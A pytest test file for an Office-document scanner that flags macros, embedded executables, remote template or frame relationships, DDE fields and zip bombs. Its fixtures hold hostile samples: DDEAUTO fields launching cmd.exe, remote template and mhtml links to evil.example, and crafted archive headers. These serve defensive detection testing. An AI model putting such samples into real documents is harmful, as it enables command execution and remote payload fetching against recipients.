"""Office documents that act, hide a program, fetch something, or unpack without end."""

import struct
import zipfile
from io import BytesIO

import pytest

from chalicelib.examination import office
from chalicelib.examination.file_type import type_of
from tests import files_building as made

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def judged(content: bytes) -> tuple[str, str]:
    return type_of(BytesIO(content))


def with_types(listing: str | bytes) -> bytes:
    return made.archive({"[Content_Types].xml": listing, "word/document.xml": "<x/>"})


def typed(content_type: str) -> str:
    return f'<Types><Override PartName="/word/document.xml" ContentType="{content_type}"/></Types>'


NATIVE = "\x01Ole10Native".encode("utf-16-le")
MACRO = typed("application/vnd.ms-word.document.macroEnabled.main+xml")


@pytest.mark.parametrize("listing", [
    MACRO, f'<?xml version="1.0" encoding="UTF-16"?>{MACRO}'.encode("utf-16"), MACRO.encode("utf-16-be"),
    MACRO.replace("macroEnabled", "m&#x61;cro&#69;nabled"), MACRO.replace("macroEnabled", "MACROENABLED"),
    typed("application/vnd.ms-office.vbaProject"), typed("application/vnd.ms-excel.macrosheet+xml"),
    typed("application/vnd.ms-word.vbaData+xml"),
])  # fmt: skip
def test_macros_are_seen_in_whatever_way_they_are_declared(listing: str | bytes) -> None:
    expected = {"damaged", "macros"} if isinstance(listing, bytes) else {"macros"}
    assert judged(with_types(listing))[1] in expected


@pytest.mark.parametrize("content_type", [
    "application/vnd.ms-office.activeX+xml", "application/vnd.ms-excel.control+xml",
])  # fmt: skip
def test_a_control_that_acts_is_seen_by_how_it_is_declared(content_type: str) -> None:
    assert judged(with_types(typed(content_type))) == ("", "active")


def test_a_listing_in_utf_16_is_read_like_any_other() -> None:
    assert judged(with_types(f'<?xml version="1.0" encoding="UTF-16"?>{MACRO}'.encode("utf-16"))) == ("", "macros")
    assert judged(with_types(f'<?xml version="1.0" encoding="UTF-16"?>{typed(MAIN)}'.encode("utf-16"))) == ("docx", "")


def test_a_listing_that_is_no_xml_or_declares_entities_is_refused() -> None:
    assert judged(with_types("Types")) == ("", "damaged")
    entity = f'<!DOCTYPE x [<!ENTITY m "macroEnabled">]>{typed("a&m;")}'
    assert judged(with_types(entity)) == ("", "damaged")


@pytest.mark.parametrize(("name", "content", "code"), [
    ("word/vbaProject.bin", "x", "macros"), ("word/VBAPROJECT.BIN", "x", "macros"), ("word/a.docm", "x", "macros"),
    ("word/embeddings/setup.exe", "x", "embedded"), ("word/media/a.js", "x", "embedded"), ("a.lnk. ", "x", "embedded"),
    ("word/media/image1.png", b"MZ\x90", "embedded"), ("word/embeddings/object.bin", b"\x7fELF", "embedded"),
    ("word/embeddings/oleObject1.bin", bytes(600) + NATIVE, "embedded"),
    ("word/embeddings/a.xlsx", b"PK\x03\x04 xl/vbaProject.bin", "macros"),
    ("word/activeX/activeX1.xml", "<x/>", "active"),
])  # fmt: skip
def test_a_program_within_is_found(name: str, content: str | bytes, code: str) -> None:
    assert judged(made.office("docx", **{name: content})) == ("", code)


def test_a_chart_s_own_workbook_and_an_equation_are_sound() -> None:
    within = {"word/embeddings/a.xlsx": made.office("xlsx"), "word/embeddings/oleObject1.bin": made.OLE}
    assert judged(made.office("docx", **within)) == ("docx", "")


@pytest.mark.parametrize("part", ["word/media/a.png", "docProps/app.xml", "customXml/item1.xml"])
def test_what_only_speaks_of_a_program_is_none(part: str) -> None:
    words = "vbaProject.bin \x01Ole10Native".encode("utf-16-le") + b" vbaproject.bin <no XML"
    assert judged(made.office("docx", **{part: words})) == ("docx", "")


@pytest.mark.parametrize(("content", "expected"), [
    (bytes(56) + NATIVE + bytes(100), ("", "embedded")), (bytes(60) + b"xl/vbaProject.bin" + bytes(90), ("", "macros")),
    # A workbook of a chart in which these letters happen to stand.
    (bytes(32) + b"MZ" + bytes(100), ("docx", "")), (bytes(64) + b"MZ" + bytes(100), ("docx", "")),
])  # fmt: skip
def test_what_lies_across_two_pieces_of_what_is_read_is_found(
    monkeypatch: pytest.MonkeyPatch, content: bytes, expected: tuple[str, str]
) -> None:
    monkeypatch.setattr(office, "CHUNK", 64)
    assert judged(made.office("docx", **{"word/embeddings/a.bin": content})) == expected


RELATION = '<Relationships><Relationship Id="a" Type="http://x/relationships/{}" Target="{}" {}/></Relationships>'
OUTSIDE = 'TargetMode="External"'


def related(sort: str, target: str, mode: str = OUTSIDE) -> tuple[str, str]:
    return judged(made.office("docx", **{"word/_rels/settings.xml.rels": RELATION.format(sort, target, mode)}))


@pytest.mark.parametrize(("sort", "target"), [
    ("attachedTemplate", "http://evil.example/a.dotm"), ("attachedTemplate", "\\\\server\\a.dotm"),
    ("attachedTemplate", "file://server/share/a.dotm"), ("attachedTemplate", "file:////server/a.dotm"),
    ("oleObject", "mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html"),
    ("frame", "https://evil.example/"), ("subDocument", "//evil.example/a"), ("externalLinkPath", "ftp://x/a.xlsx"),
    ("attachedTemplate", "&#x68;ttp://evil.example/a.dotm"), ("somethingNew", "https://evil.example/"),
])  # fmt: skip
def test_what_would_be_fetched_from_elsewhere_is_refused(sort: str, target: str) -> None:
    assert related(sort, target) == ("", "remote")


@pytest.mark.parametrize(("sort", "target", "mode"), [
    ("hyperlink", "https://example.kz/", OUTSIDE), ("image", "https://example.kz/a.png", OUTSIDE),
    ("attachedTemplate", "file:///C:\\Users\\a\\Templates\\b.dotx", OUTSIDE), ("styles", "styles.xml", ""),
    ("attachedTemplate", "C:\\a.dotx", OUTSIDE), ("externalLinkPath", "budget.xlsx", OUTSIDE),
    ("externalLinkPath", "../2020/budget.xlsx", OUTSIDE), ("attachedTemplate", "Normal.dotm", OUTSIDE),
    ("video", "https://example.kz/a.mp4", OUTSIDE), ("audio", "https://example.kz/a.mp3", OUTSIDE),
    ("media", "https://example.kz/a.mp4", OUTSIDE),
])  # fmt: skip
def test_a_link_and_a_path_on_the_sender_s_own_disk_are_sound(sort: str, target: str, mode: str) -> None:
    assert related(sort, target, mode) == ("docx", "")


@pytest.mark.parametrize("relation", [
    '<Relationship Target="http://evil.example/a" TargetMode="External"/>',
    '<Relationship Type="http://x/relationships/frame" TargetMode="External"/>',
])  # fmt: skip
def test_a_relation_outside_that_does_not_say_of_what_sort_or_where_to_is_refused(relation: str) -> None:
    relations = f"<Relationships>{relation}</Relationships>"
    assert judged(made.office("docx", **{"word/_rels/settings.xml.rels": relations})) == ("", "remote")


@pytest.mark.parametrize("part", ["word/_rels/settings.xml.rels", "word/document.xml", "xl/externalLinks/a.xml"])
def test_a_part_that_can_act_and_is_no_xml_is_damage(part: str) -> None:
    assert judged(made.office("docx", **{part: "<x>"}))[1] in ("damaged", "archive")
    assert judged(made.office("xlsx" if part.startswith("xl") else "docx", **{part: "<x>"})) == ("", "damaged")


@pytest.mark.parametrize("document", [
    '<w xmlns:w="w"><w:instrText>DDEAUTO c:\\windows\\cmd.exe "/k calc"</w:instrText></w>',
    '<w xmlns:w="w"><w:instrText> D</w:instrText><w:r/><w:instrText>DE a b</w:instrText></w>',
    '<w xmlns:w="w"><w:fldSimple w:instr=" dde a b"/></w>',
])  # fmt: skip
def test_a_field_that_runs_another_program_is_refused(document: str) -> None:
    assert judged(made.office("docx", **{"word/header1.xml": document})) == ("", "active")


def test_a_text_about_dde_and_an_ordinary_field_are_sound() -> None:
    field = "<w:instrText>PAGE \\* MERGEFORMAT </w:instrText> DDE "
    text = f'<w xmlns:w="w"><w:t> DDE </w:t>{field}<w:t> DDEAUTO </w:t></w>'
    assert judged(made.office("docx", **{"word/header1.xml": text})) == ("docx", "")


def test_a_workbook_s_link_to_another_program_is_refused() -> None:
    link = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
    assert judged(made.office("xlsx", **{"xl/externalLinks/externalLink1.xml": link})) == ("", "active")


# ---------------------------------------------------------------- what unpacks without end


def packed(method: int, size: int, name: str = "word/media/a.xml") -> bytes:
    file = BytesIO(made.office("docx"))
    with zipfile.ZipFile(file, "a", method) as archive, archive.open(name, "w") as member:
        for _ in range(size // 1_000_000):
            member.write(bytes(1_000_000))
    return file.getvalue()


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_only_stored_and_deflated_members_are_unpacked(method: int) -> None:
    assert judged(packed(method, 1_000_000)) == ("", "unreadable")


def test_a_ratio_that_no_text_and_no_picture_has_is_refused() -> None:
    assert judged(packed(zipfile.ZIP_DEFLATED, 50_000_000)) == ("", "unreadable")


def listed(size: int, packed_to: int, name: str = "word/media/a.bin") -> zipfile.ZipInfo:
    member = zipfile.ZipInfo(name)
    member.file_size, member.compress_size, member.compress_type = size, packed_to, zipfile.ZIP_DEFLATED
    return member


@pytest.mark.parametrize(("members", "fault"), [
    ([listed(2_000_000, 1_900_000)], ""),  # a photograph
    ([listed(900_000, 900)], ""), ([listed(1_000_000, 1000)], ""),  # a small text may be as monotonous as it likes
    ([listed(150_000_000, 1_000_000)], ""), ([listed(150_000_001, 1_000_000)], "unreadable"),
    ([listed(1_000_001, 0)], "unreadable"),
    ([listed(200_000_000, 190_000_000)], ""), ([listed(200_000_001, 190_000_000)], "unreadable"),
    ([listed(200_000_000, 190_000_000, name) for name in ("word/a", "word/b")], ""),
    ([listed(200_000_000, 190_000_000, name) for name in ("word/a", "word/b")] + [listed(1, 1)], "unreadable"),
    ([listed(1, 1, "word/" + "a" * 295)], ""), ([listed(1, 1, "word/" + "a" * 296)], "unreadable"),
])  # fmt: skip
def test_the_directory_alone_tells_what_would_unpack_to_too_much(members: list[zipfile.ZipInfo], fault: str) -> None:
    assert office.fault_of_members(members) == fault


def test_what_is_unpacked_is_bounded_for_the_whole_document(monkeypatch: pytest.MonkeyPatch) -> None:
    """A document of exactly so much is sound, one of a byte more is not."""
    parts = {"word/document.xml": "<x></x>", "word/embeddings/a.bin": "a" * 500, "word/embeddings/b.bin": "b" * 500}
    document = made.office("docx", **parts)
    with zipfile.ZipFile(BytesIO(document)) as archive:
        whole = sum(member.file_size for member in archive.infolist())
    monkeypatch.setattr(office, "MOST_UNPACKED", whole)
    assert judged(document) == ("docx", "")
    monkeypatch.setattr(office, "MOST_UNPACKED", whole - 1)
    assert judged(document) == ("", "unreadable")


def test_a_picture_that_is_only_stored_is_sound() -> None:
    file = BytesIO(made.office("docx"))
    with zipfile.ZipFile(file, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr("word/media/a.png", made.PNG)
    assert judged(file.getvalue()) == ("docx", "")


def test_members_are_bounded_in_number_and_name() -> None:
    many = made.office("docx", **{f"word/{i}": "" for i in range(office.MOST_MEMBERS + 1)})
    assert judged(many) == ("", "unreadable")
    assert judged(made.office("docx", **{"word/" + "a" * 300: ""})) == ("", "unreadable")


def test_two_members_of_one_name_are_refused() -> None:
    """One program would read the first, another the last."""
    twice = made.office("docx", **{"WORD/DOCUMENT.XML": "<x/>"})
    assert judged(twice) == ("", "unreadable")


def test_a_size_that_is_less_than_what_comes_is_damage() -> None:
    content = bytearray(packed(zipfile.ZIP_DEFLATED, 3_000_000, "word/embeddings/a.bin"))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = content.rfind(mark)
        while place >= 0 and b"embeddings" not in content[place : place + 100]:
            place = content.rfind(mark, 0, place)
        content[place + at : place + at + 4] = struct.pack("<I", 500)
    assert judged(bytes(content))[0] == ""
